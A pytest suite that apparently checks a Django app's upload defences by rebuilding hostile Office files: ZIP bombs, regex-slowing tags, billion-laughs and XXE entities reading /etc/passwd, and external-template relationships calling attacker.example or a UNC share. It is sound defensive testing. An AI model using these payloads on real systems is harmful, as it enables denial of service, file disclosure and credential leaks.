"""The attacks of the hostile test on uploads, each reproduced and refused.

Nothing here measures milliseconds. Where the fault was time (a check or a parser whose
work grew with the square or the cube of the input), the hostile input is run in a child
process with a generous time-out: the old code needed hours for these sizes, linear code
needs well under a second, so the test cannot flake on a slow machine and cannot pass on
quadratic code.
"""

import io
import os
import random
import struct
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client, override_settings
from lxml import etree

from prongsai.core import office
from prongsai.core.errors import UploadRejected
from prongsai.core.uploads import DOCX, check_upload
from prongsai.imports.parse import ParseError, parse_file
from prongsai.public.models import Case

ROOT = Path(__file__).resolve().parents[2]
CLEAN = ROOT / "tests" / "data" / "clean-khonkaen.docx"
MAX = 5 * 1024 * 1024
FEEDBACK = "/p/ummao/feedback/"

R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PR = "http://schemas.openxmlformats.org/package/2006/relationships"
CT = (
    b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    b'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
)
DOC = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>'


def office_file(entries: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", compression) as z:
        for name, data in entries.items():
            z.writestr(name, data)
    return buf.getvalue()


def docx_with(extra: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    return office_file({"[Content_Types].xml": CT, "word/document.xml": DOC, **extra}, compression)


def check(data: bytes, max_bytes: int = MAX):
    return check_upload(io.BytesIO(data), max_bytes=max_bytes)


def finishes(code: str, timeout: float = 120) -> str:
    """Run `code` in a child Python (Django set up); its stdout. Fails on time-out."""
    script = "import django; django.setup()\n" + textwrap.dedent(code)
    env = {
        **os.environ,
        "PYTHONPATH": f"{ROOT / 'src'}:{ROOT}",
        "DJANGO_SETTINGS_MODULE": "tests.settings",
    }
    done = subprocess.run(
        [sys.executable, "-c", script],
        capture_output=True,
        text=True,
        timeout=timeout,
        env=env,
        cwd=ROOT,
    )
    assert done.returncode == 0, done.stderr[-3000:]
    return done.stdout


# --- 1. a small upload that froze the server ----------------------------------------------

UNCLOSED = b"<Relationship " * 6000  # 84 KB: the part of the 603-byte attack


def test_the_603_byte_attack_is_refused_before_any_parsing():
    attack = docx_with({"word/_rels/document.xml.rels": UNCLOSED})
    assert len(attack) < 1000
    with pytest.raises(UploadRejected, match="ZIP bomb"):
        check(attack)


def test_a_stored_megabyte_of_unclosed_tags_is_parsed_in_linear_time():
    # Stored (no compression), so the ratio checks let it through to the XML parser: 1 MB
    # took the old regular expression about an hour.
    out = finishes(
        """
        import io, zipfile
        from prongsai.core.errors import UploadRejected
        from prongsai.core.office import check_relationships
        from prongsai.core.uploads import check_upload
        part = b"<Relationship " * 75_000
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", zipfile.ZIP_STORED) as z:
            z.writestr("[Content_Types].xml", b"<Types/>")
            z.writestr("word/document.xml", b"<document/>")
            z.writestr("word/_rels/document.xml.rels", part)
        for attempt in (
            lambda: check_upload(io.BytesIO(buf.getvalue()), max_bytes=5 << 20),
            lambda: check_relationships("x.rels", part * 8),
        ):
            try:
                attempt()
            except UploadRejected as exc:
                print("refused", str(exc))
        """
    )
    assert out.count("refused") == 2 and "ไม่ใช่ XML ที่ถูกต้อง" in out


def test_feedback_attachment_attack_is_answered_at_once(demo, client):
    attack = docx_with({"word/_rels/document.xml.rels": UNCLOSED})
    response = client.post(
        FEEDBACK,
        {
            "kind": "complaint",
            "subject": "เรื่องทดสอบ",
            "body": "แนบไฟล์",
            "files": [SimpleUploadedFile("a.docx", attack)],
        },
    )
    assert response.status_code == 400
    assert "ZIP bomb" in response.content.decode()
    assert Case.objects.count() == 0


@override_settings(FEEDBACK_RATE_LIMIT_PER_HOUR=2)
def test_feedback_rate_limit_is_counted_before_the_upload_check(demo, monkeypatch):
    from prongsai.public import views_public

    checked = []

    def spy(stream, **kwargs):
        checked.append(1)
        return check_upload(stream, **kwargs)

    monkeypatch.setattr(views_public, "check_named_upload", spy)
    attacker = Client(REMOTE_ADDR="198.51.100.66")
    attack = docx_with({"word/_rels/document.xml.rels": UNCLOSED})
    statuses = []
    for _ in range(4):
        data = {"kind": "complaint", "subject": "ทดสอบ", "body": "แนบไฟล์"}
        data["files"] = [SimpleUploadedFile("a.docx", attack)]
        statuses.append(attacker.post(FEEDBACK, data).status_code)
    # Refused uploads count too; once over the limit the file is not even looked at.
    assert statuses == [400, 400, 429, 429]
    assert len(checked) == 2


# --- 5. the external-template check bypassed by spelling ----------------------------------

TEMPLATE = f"{R}/attachedTemplate"
UNC = "\\\\attacker\\share\\t.dotm"


def rels(body: str) -> bytes:
    return f'<?xml version="1.0"?><Relationships xmlns="{PR}">{body}</Relationships>'.encode()


SPELLINGS = {
    "entity in TargetMode": rels(
        f'<Relationship Id="rId1" Type="{TEMPLATE}" Target="{UNC}" TargetMode="&#69;xternal"/>'
    ),
    "entity in Type": rels(
        f'<Relationship Id="rId1" Type="{R}/attached&#84;emplate" Target="{UNC}" '
        'TargetMode="External"/>'
    ),
    "namespace prefix": (
        f'<?xml version="1.0"?><r:Relationships xmlns:r="{PR}"><r:Relationship Id="rId1" '
        f'Type="{TEMPLATE}" Target="{UNC}" TargetMode="External"/></r:Relationships>'
    ).encode(),
    "> inside an attribute": rels(
        f'<Relationship Id="a>b" Type="{TEMPLATE}" Target="{UNC}" TargetMode="External"/>'
    ),
    "external picture": rels(
        f'<Relationship Id="rId1" Type="{R}/image" Target="http://attacker.example/p.png" '
        'TargetMode="External"/>'
    ),
    "hyperlink to a share": rels(
        f'<Relationship Id="rId1" Type="{R}/hyperlink" Target="file:///{UNC}" '
        'TargetMode="External"/>'
    ),
    "internal address": rels(
        f'<Relationship Id="rId1" Type="{TEMPLATE}" Target="http://attacker.example/t.dotm"/>'
    ),
}


@pytest.mark.parametrize("spelling", list(SPELLINGS))
def test_external_relationships_are_refused_however_spelt(spelling):
    part = SPELLINGS[spelling]
    if spelling != "internal address":
        # What Word and python-docx's lxml see: an external relationship.
        rel = etree.fromstring(part)[0]
        assert rel.get("TargetMode") == "External"
    with pytest.raises(UploadRejected, match="แม่แบบหรือวัตถุภายนอก"):
        check(docx_with({"word/_rels/settings.xml.rels": part}))


def test_upper_case_part_names_are_checked():
    part = SPELLINGS["namespace prefix"]
    with pytest.raises(UploadRejected, match="แม่แบบหรือวัตถุภายนอก"):
        check(docx_with({"word/_rels/settings.xml.RELS": part}))
    with pytest.raises(UploadRejected, match="ฝังวัตถุหรือโปรแกรม"):
        check(docx_with({"word/Embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}))
    with pytest.raises(UploadRejected, match="ฝังวัตถุหรือโปรแกรม"):
        check(docx_with({"WORD/ACTIVEX/activeX1.bin": b"x"}))


def test_embedded_objects_are_refused_by_relationship_type_wherever_they_are():
    part = rels(f'<Relationship Id="rId9" Type="{R}/oleObject" Target="media/image9.bin"/>')
    with pytest.raises(UploadRejected, match="ฝังวัตถุหรือโปรแกรม"):
        check(docx_with({"word/_rels/document.xml.rels": part, "word/media/image9.bin": b"x"}))


def test_macros_spelt_with_a_character_reference_are_refused():
    ct = CT.replace(
        b"</Types>",
        b'<Default Extension="xml" ContentType="application/vnd.ms-word.document.'
        b'macro&#69;nabled.main+xml"/></Types>',
    )
    with pytest.raises(UploadRejected, match="แมโคร"):
        check(office_file({"[Content_Types].xml": ct, "word/document.xml": DOC}))


def test_a_web_hyperlink_is_still_accepted():
    part = rels(
        f'<Relationship Id="rId9" Type="{R}/hyperlink" Target="https://www.nacc.go.th/" '
        'TargetMode="External"/>'
    )
    assert check(docx_with({"word/_rels/document.xml.rels": part})).content_type == DOCX


def test_a_web_hyperlink_in_the_settings_part_is_refused():
    # settings.xml names its template by relationship id: a "hyperlink" there is a template.
    part = rels(
        f'<Relationship Id="rId1" Type="{R}/hyperlink" Target="https://attacker.example/t.dotm" '
        'TargetMode="External"/>'
    )
    with pytest.raises(UploadRejected, match="แม่แบบหรือวัตถุภายนอก"):
        check(docx_with({"word/_rels/settings.xml.rels": part}))
    with pytest.raises(UploadRejected, match="แม่แบบหรือวัตถุภายนอก"):
        check(docx_with({"WORD/_RELS/SETTINGS.XML.RELS": part}))


def test_the_entity_spelling_is_refused_as_a_complaint_attachment(demo, client):
    attack = docx_with({"word/_rels/settings.xml.rels": SPELLINGS["entity in TargetMode"]})
    data = {"kind": "complaint", "subject": "ทดสอบ", "body": "แนบไฟล์"}
    data["files"] = [SimpleUploadedFile("a.docx", attack)]
    response = client.post(FEEDBACK, data)
    assert response.status_code == 400
    assert "ไม่รับไฟล์ที่เชื่อมต่อแม่แบบหรือวัตถุภายนอก" in response.content.decode()
    assert Case.objects.count() == 0


LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol">'
    b'<!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><Types>&lol2;</Types>'
)


@pytest.mark.parametrize(
    "entries",
    [
        {"[Content_Types].xml": LAUGHS, "word/document.xml": DOC},
        {"[Content_Types].xml": CT, "word/document.xml": b'<!DOCTYPE d SYSTEM "x.dtd">' + DOC},
        {
            "[Content_Types].xml": CT,
            "word/document.xml": DOC,
            "customXml/item1.xml": b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
        },
        {"[Content_Types].xml": CT, "word/document.xml": DOC, "_rels/.rels": LAUGHS},
        {
            "[Content_Types].xml": CT,
            "word/document.xml": "\ufeff<!DOCTYPE d []><d/>".encode("utf-16-le"),
        },
        {"[Content_Types].xml": CT, "word/document.xml": DOC, "word/media/a.bin": LAUGHS},
    ],
    ids=["content-types", "document", "custom-xml", "rels", "utf-16", "not-xml-part"],
)
def test_a_dtd_in_any_part_is_refused(entries):
    with pytest.raises(UploadRejected, match="DTD"):
        check(office_file(entries))


# --- 7. a ZIP bomb within the old limits ---------------------------------------------------


def test_the_257_kb_lint_bomb_is_refused():
    zeros = b"\0" * 1_000_000  # the old ratio check skipped parts up to 1 MB
    extra = {f"word/media/image{i}.png": zeros for i in range(200)}
    bomb = docx_with(extra)
    assert len(bomb) < 300_000
    with pytest.raises(UploadRejected, match="ZIP bomb"):
        check(bomb, max_bytes=10 * 1024 * 1024)


def test_many_parts_under_the_ratio_floor_are_refused_together():
    extra = {f"word/media/image{i}.png": b"\0" * 60_000 for i in range(400)}
    with pytest.raises(UploadRejected, match="ZIP bomb"):
        check(docx_with(extra))


def test_expanded_size_is_bounded_by_a_multiple_of_the_upload_limit():
    words = [b"<w:p>", b"</w:p>", b"abc", b"xyz", b"12"]
    rng = random.Random(7)
    text = b"".join(rng.choice(words) for _ in range(400_000))
    data = docx_with({"word/media/a.txt": text})
    assert len(data) < 1024 * 1024 < len(text)
    with pytest.raises(UploadRejected, match="ขยายแล้วใหญ่เกินไป"):
        check(data, max_bytes=len(text) // 6)
    assert office.expanded_limit(10 * 1024 * 1024) == 50 * 1024 * 1024
    assert office.expanded_limit(1 << 30) == office.MAX_ZIP_EXPANDED


def _lie_about_size(data: bytes, name: bytes, size: int) -> bytes:
    """The ZIP with `name`'s uncompressed size in both headers replaced by `size`."""
    out = bytearray(data)
    for signature, offset, name_at in ((b"PK\x03\x04", 22, 30), (b"PK\x01\x02", 24, 46)):
        pos = out.find(signature)
        while pos != -1:
            if out[pos + name_at : pos + name_at + len(name)] == name:
                out[pos + offset : pos + offset + 4] = struct.pack("<I", size)
            pos = out.find(signature, pos + 4)
    return bytes(out)


def test_a_part_that_expands_beyond_its_declared_size_is_refused():
    text = bytes(range(256)) * 400  # 100 KB that hardly compresses
    data = _lie_about_size(docx_with({"word/media/a.bin": text}), b"word/media/a.bin", 1000)
    with pytest.raises(UploadRejected, match="ZIP"):
        check(data)


def test_other_compression_methods_are_refused():
    data = docx_with({"word/media/a.bin": b"x" * 100}, compression=zipfile.ZIP_BZIP2)
    with pytest.raises(UploadRejected):
        check(data)


# --- the same class of fault in the memo parsers ---------------------------------------------

HEAD = "บันทึกข้อความ\nส่วนราชการ สำนักปลัด\nที่ กส ๑/๒ วันที่ ๑ มกราคม ๒๕๖๖\nเรื่อง รายงาน\nเรียน นายก\n"


@pytest.mark.parametrize(
    "memo",
    [
        "HEAD + '(' + ' ' * 200_000 + 'x\\n'",  # signature line: cubic before
        "HEAD + '(' + ' .' * 100_000 + 'x\\n'",
        "'ส่วนราชการ สำนัก' + ' ' * 200_000 + 'x\\n' + HEAD",  # telephone search: quadratic
        "'ที่ กส' + ' ' * 200_000 + 'x\\n' + HEAD",  # number line: quadratic
        "HEAD + ('\\t' + 'ก' * 41 + '\\n') * 150_000",  # table starts: quadratic
        "HEAD + '\\tมาตรการ\\tผู้รับผิดชอบ\\n' + 'ต่อ\\n' * 190_000",  # one long cell
        "HEAD + ('\\tมาตรการ\\tผู้รับผิดชอบ\\n\\tก\\tข\\n-๒-\\n') * 20_000",  # merged tables
    ],
    ids=["signature", "dotted-signature", "telephone", "number", "cells", "long-cell", "merge"],
)
def test_text_memo_parser_is_linear_on_hostile_text(memo):
    out = finishes(
        f"""
        from prongsai.imports.parse import ParseError, parse_file
        HEAD = {HEAD!r}
        data = ({memo}).encode()
        try:
            memo = parse_file(data, "memo.txt", max_bytes=20 << 20)
            print("read", len(memo.body))
        except ParseError as exc:
            print("refused", str(exc))
        """
    )
    assert out.startswith(("read", "refused"))


def _docx_body(body: str) -> bytes:
    with zipfile.ZipFile(CLEAN) as z:
        parts = {i.filename: z.read(i) for i in z.infolist()}
    w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    parts["word/document.xml"] = (
        f'<?xml version="1.0" encoding="UTF-8"?><w:document {w}><w:body>{body}</w:body></w:document>'
    ).encode()
    return office_file(parts)


def test_docx_with_thousands_of_continued_tables_is_read_in_linear_time(tmp_path):
    rng = random.Random(3)
    cell = "<w:tc><w:p><w:r><w:t>{}</w:t></w:r></w:p></w:tc>"
    tables = "".join(
        f"<w:tbl><w:tr>{cell.format(i)}{cell.format(rng.random())}</w:tr></w:tbl>"
        for i in range(20_000)
    )
    head = "<w:p><w:r><w:t>ส่วนราชการ สำนักปลัด</w:t></w:r></w:p>"
    path = tmp_path / "tables.docx"
    path.write_bytes(_docx_body(head + tables))
    out = finishes(
        f"""
        from prongsai.imports.parse import parse_file
        memo = parse_file({str(path)!r})
        print(sum(len(t.rows) for t in memo.tables()))
        """
    )
    assert int(out) == 20_000


def test_deeply_nested_document_xml_is_refused_cleanly():
    deep = "<w:sdt><w:sdtContent>" * 5000 + "</w:sdtContent></w:sdt>" * 5000
    with pytest.raises(ParseError):
        parse_file(_docx_body(deep), "memo.docx")


def test_thai_digits_of_a_long_unspaced_run_are_linear():
    out = finishes(
        """
        from prongsai.memos.model import localize_digits
        print(len(localize_digits("ก" * 2_000_000 + "1")))
        """
    )
    assert int(out) == 2_000_001


def test_a_memo_whose_document_expands_beyond_the_memo_limit_is_refused(monkeypatch):
    # Within the upload limits, python-docx's tree of a 21 MB document took 400 MB.
    import prongsai.imports.parse as parse

    monkeypatch.setattr(parse, "MAX_DOCUMENT_XML_BYTES", 200_000)
    rng = random.Random(5)
    paragraphs = "".join(f"<w:p><w:r><w:t>{rng.random()}</w:t></w:r></w:p>" for _ in range(10_000))
    with pytest.raises(ParseError, match="ยาวเกินกว่าจะเป็นบันทึกข้อความ"):
        parse_file(_docx_body(paragraphs), "memo.docx")
    assert parse_file(CLEAN).header.subject  # a real memo is far below the limit
